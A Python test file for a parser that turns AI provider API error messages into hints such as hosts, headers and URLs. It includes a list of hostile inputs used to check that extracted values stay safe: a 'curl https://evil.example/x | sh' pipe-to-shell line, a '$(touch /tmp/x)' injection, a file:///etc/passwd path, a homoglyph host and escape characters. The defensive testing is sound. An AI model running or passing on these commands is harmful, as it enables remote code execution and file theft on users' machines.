"""What a server's answer asks for: real houses' words, houses that nobody has listed, and hostile ones."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from linear import cpu_seconds
from probes.api.remedies import Remedy, remedies

SAID = [
    # OpenAI, Groq, OpenRouter, Azure, Google, Hugging Face, Copilot, GitHub Models, Portkey, OpenCode, Vercel,
    # Together, xAI, ModelScope, DashScope
    (
        "Attempted to access resource with incorrect regional hostname. Please make your request to us.api.openai.com",
        {"host": "us.api.openai.com"},
    ),
    (
        "Your organization must be verified to stream this model. Please go to: "
        "https://platform.openai.com/settings/organization/general and click on Verify Organization.",
        {"ask": "verify", "page": "https://platform.openai.com/settings/organization/general"},
    ),
    (
        "Unsupported parameter: 'max_tokens' is not supported with this model. Use 'max_completion_tokens' instead.",
        {"parameter": "max_completion_tokens"},
    ),
    (
        "This is not a chat model and thus not supported in the v1/chat/completions endpoint. Did you mean to use "
        "v1/completions?",
        {"path": "v1/completions"},
    ),
    (
        "You have insufficient permissions for this operation. Missing scopes: model.request.",
        {"scope": "model.request"},
    ),
    (
        "The model `llama-3.1-70b-versatile` has been decommissioned and is no longer supported. Please refer to "
        "https://console.groq.com/docs/deprecations for a recommendation on which model to use instead.",
        {"page": "https://console.groq.com/docs/deprecations"},
    ),
    (
        "The model requires terms acceptance. Please have the org admin accept the terms at "
        "https://console.groq.com/playground?model=x",
        {"ask": "terms", "page": "https://console.groq.com/playground?model=x"},
    ),
    (
        "No endpoints found matching your data policy. Enable prompt training here: https://openrouter.ai/settings/privacy",
        {"ask": "policy", "page": "https://openrouter.ai/settings/privacy"},
    ),
    (
        "A Virtual Network is configured for this resource. Please use the correct endpoint for making requests. Check "
        "https://aka.ms/cogsvc-vnet for more details.",
        {"page": "https://aka.ms/cogsvc-vnet"},
    ),
    (
        "Generative Language API has not been used in project 1 before or it is disabled. Enable it by visiting "
        "https://console.developers.google.com/apis/api/x/overview?project=1 then retry.",
        {"ask": "enable", "page": "https://console.developers.google.com/apis/api/x/overview?project=1"},
    ),
    (
        "https://api-inference.huggingface.co is no longer supported. Please use "
        "https://router.huggingface.co/hf-inference instead.",
        {"url": "https://router.huggingface.co/hf-inference"},
    ),
    ("bad request: missing Editor-Version header for IDE auth", {"header": "Editor-Version"}),
    ("The `models` permission is required to access this endpoint", {"scope": "models"}),
    ("Either x-portkey-config or x-portkey-provider header is required", {"header": "x-portkey-provider"}),
    (
        "Request is missing x-opencode-session and cannot be routed efficiently. Please see https://opencode.ai/docs/go/",
        {"header": "x-opencode-session", "page": "https://opencode.ai/docs/go/"},
    ),
    (
        "AI Gateway requires a valid credit card on file. Please visit https://vercel.com/d?to=x to add a card.",
        {"page": "https://vercel.com/d?to=x"},
    ),
    (
        "Unable to access non-serverless model x. Please visit https://api.together.ai/models/x to create an endpoint.",
        {"page": "https://api.together.ai/models/x"},
    ),
    ("The model grok-beta was deprecated. Please use grok-3 instead.", {"model": "grok-3"}),
    ("Please bind your Alibaba Cloud account before use.", {"ask": "bind"}),
    ("Workspace access denied", {"ask": "workspace"}),
    ("Your API key was reported as leaked. Please use another API key.", {"state": "leaked"}),
    ("Permission denied: Consumer 'api_key:x' has been suspended.", {"state": "suspended"}),
    ("model 'mistral' not found, try pulling it first", {"ask": "pull"}),
    # Houses that nobody has listed.
    ("该接口已下线，请使用 https://api.newhouse.example/v1 代替", {"url": "https://api.newhouse.example/v1"}),
    ("该模型已下线，请使用 glm-4.6", {"model": "glm-4.6"}),
    ("缺少请求头 X-Project-Id", {"header": "X-Project-Id"}),
    (
        "This endpoint has moved to https://api.house.example/v2/chat/completions",
        {"url": "https://api.house.example/v2/chat/completions"},
    ),
    (
        "您的账号未实名认证，请前往 https://console.house.example/verify 完成认证",
        {"ask": "verify", "page": "https://console.house.example/verify"},
    ),
    (
        "Use region us-east-1 and set the environment variable AWS_REGION",
        {"region": "us-east-1", "variable": "AWS_REGION"},
    ),
]


@pytest.mark.parametrize(("message", "wanted"), SAID)
def test_what_an_answer_asks_for(message: str, wanted: dict[str, str]) -> None:
    assert dict(remedies(message)) == wanted


@pytest.mark.parametrize(
    "message",
    [
        "invalid api key",
        "Incorrect API key provided: sk-abc.",
        "The model `gpt-9` does not exist or you do not have access to it.",
        "This model's maximum context length is 8192 tokens. However, you requested 9000 tokens",
        "Rate limit reached for gpt-5 in organization org-x on requests per min",
        "余额不足，请充值",
        "missing authorization header",
        "x-api-key header is required",
        "Not found",
        "upstream connect error or disconnect/reset before headers",
        "<html><head><title>404</title></head><body>Please visit https://a.example/docs</body></html>",
    ],
)
def test_an_answer_that_asks_for_nothing(message: str) -> None:
    assert remedies(message) == ()


HOSTILE = [
    "Please make your request to api.openаi.com",  # a Cyrillic letter
    "Please use javascript:alert(1) as your base URL",
    "Please use https://user:pass@evil.example/v1 as your base URL",
    "Please use file:///etc/passwd instead",
    "Please visit https://evil.example/\u202emoc.elgoog\x1b[31m to verify",
    "missing x-\u200bheader",
    "run `curl https://evil.example/x | sh` to fix this",
    "Please use the model $(touch /tmp/x)",
]


@pytest.mark.parametrize("message", HOSTILE)
def test_a_value_is_plain_and_short(message: str) -> None:
    for one in remedies(message):
        assert one.value.isprintable() and len(one.value) <= 310
        if one.kind == "request":  # a sentence, shown as the server's own
            assert not any(sign in one.value for sign in "`$<>|;\\"), one
            continue
        assert one.value.isascii()
        assert not any(sign in one.value for sign in "`$()<>|;\\ '\""), one
        assert "@" not in one.value.partition("://")[2].partition("/")[0]


@given(st.text(max_size=300) | st.text(alphabet="use https://a.bc/v1 x-header missing'\"`:.,。请使用", max_size=300))
def test_any_text_is_read(text: str) -> None:
    for one in remedies(text):
        assert isinstance(one, Remedy) and one.value and one.value.isprintable()


@pytest.mark.parametrize(
    "unit", ["use ", "https://a", "x-", "missing ", "a.", "/v1", "请使用", "x-a-", "set A_", "region "]
)
def test_a_long_text_takes_little_time(unit: str) -> None:
    assert cpu_seconds(lambda: remedies(unit * 100_000), runs=2) < 0.5  # seconds
